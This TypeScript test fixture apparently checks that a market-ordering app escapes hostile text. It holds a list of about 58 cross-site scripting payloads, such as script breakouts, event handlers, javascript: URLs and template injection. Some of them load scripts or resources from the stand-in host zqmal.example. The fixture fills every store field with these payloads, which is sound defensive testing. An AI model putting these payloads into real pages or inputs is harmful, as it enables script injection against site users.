const EVIL = "zqmal.example";

/** Ways to run text in a page, each calling a hook with its number; short enough for a name. */
const VECTORS: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `</script><script>${call}</script>`,
  (call) => `</title><script>${call}</script>`,
  (call) => `</textarea><script>${call}</script>`,
  (call) => `</style><script>${call}</script>`,
  (call) => `--><script>${call}</script>`,
  (call) => `]]><script>${call}</script>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<SCRIPT/x>${call}</SCRIPT >`,
  (call) => `<script src=//${EVIL}/${call}></script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<img src="x\` \`<script>${call}</script>"\` \`>`,
  (call) => `"><img src=x onerror=${call}>`,
  (call) => `'><img src=x onerror=${call}>`,
  (call) => `<img src=//${EVIL}/${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text>x`,
  (call) => `<math><mi xlink:href="javascript:${call}">x`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<body onload=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<video><source onerror=${call}>`,
  (call) => `<audio src onerror=${call}>`,
  (call) => `<iframe src="javascript:${call}">`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
  (call) => `<object data="javascript:${call}">`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<a href="javascript:${call}">oi</a>`,
  (call) => `<form action="javascript:${call}"><button autofocus>`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<meta http-equiv=refresh content="0;url=//${EVIL}/${call}">`,
  (call) => `<base href=//${EVIL}/${call}/>`,
  (call) => `<link rel=stylesheet href=//${EVIL}/${call}>`,
  (call) => `<style>@import '//${EVIL}/${call}';</style>`,
  (call) => `<div style="background:url(//${EVIL}/${call})">`,
  (call) => `;}*{background:url(//${EVIL}/${call})}`,
  (call) => `" onmouseover="${call}" autofocus onfocus="${call}`,
  (call) => `' onfocus='${call}' autofocus x='`,
  (call) => `\` onfocus=${call} autofocus`,
  (call) => `";${call};//`,
  (call) => `';${call};//`,
  (call) => `\\";${call};//`,
  (call) => `\${${call}}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `javascript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `&#60;img src=x onerror=${call}&#62;`,
  (call) => `%3Cscript%3E${call}%3C/script%3E`,
  (call) => `\u2028${call}\u2029</script><script>${call}</script>`,
  (call) => `<!--<script>${call}//-->`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `"])</script><script>${call}</script>`,
  (call) => `self.__next_f.push([1,"${call}"])</script><script>${call}</script>`,
];

export function hostileTexts() {
  let count = 0;
  return {
    next(): string {
      const vector = VECTORS[count % VECTORS.length] as (call: string) => string;
      return vector(`zqmal(${++count})`);
    },
    count: () => count,
  };
}

const DAY_MS = 24 * 60 * 60_000;

/** A market with hostile text in every field; each of `products` has eight. */
export function hostileDocument(id: string, next: () => string, products: number) {
  const group = { id: "g1", name: next(), min_quantity: 0, max_quantity: 3, is_required: false };
  const category = (at: number) => String(1 + (at % 4));
  return {
    market: {
      id,
      name: next(),
      delivery_time: next(),
      min_order: 0,
      open_closed: "Aberto",
      openingTime: next(),
      // Shown for two weeks.
      special_hours: [
        { date: new Date(Date.now() + 2 * DAY_MS).toISOString().slice(0, 10), closed: true, name: next() },
      ],
      open_message: next(),
      phone: next(),
      whatsapp: `11955500142${next()}`,
      email: next(),
      address: next(),
      city: next(),
      state: next(),
      legal_name: next(),
      tax_id: next(),
      pix: { key: next(), name: next(), city: next() },
      modes: ["DELIVERY", "TAKEOUT"],
      pickup: { time: next(), instructions: next() },
    },
    categories: [1, 2, 3, 4].map((at) => ({ id: String(at), name: next() })),
    products: Array.from({ length: products }, (_, at) => ({
      id: `p${at}`,
      name: next(),
      description: next(),
      category: { id: category(at) },
      image: null,
      price: 10,
      allergens: [next(), next()],
      suggests: at === 0 ? ["p1"] : [],
      // The first needs no choice and goes into the cart as it is.
      variations: at === 0 ? [] : [{ id: "v", name: next(), desc: next(), price: 0 }],
      complements: at === 0 ? [] : [{ id: "o", name: next(), price: 1, category: { ...group, name: next() } }],
    })),
    districts: [{ id: "d1", name: next(), fee: 5, min_order: 1, free_from: 100, delivery_time: next() }],
    payment_types: [
      {
        id: "t1",
        name: "Dinheiro",
        description: next(),
        active: true,
        online_payment: false,
        methods: [{ id: "m1", name: next(), description: next(), active: true }],
      },
      {
        id: "t2",
        name: next(),
        description: next(),
        active: true,
        online_payment: false,
        methods: [{ id: "m2", name: next(), description: next(), active: true }],
      },
    ],
  };
}
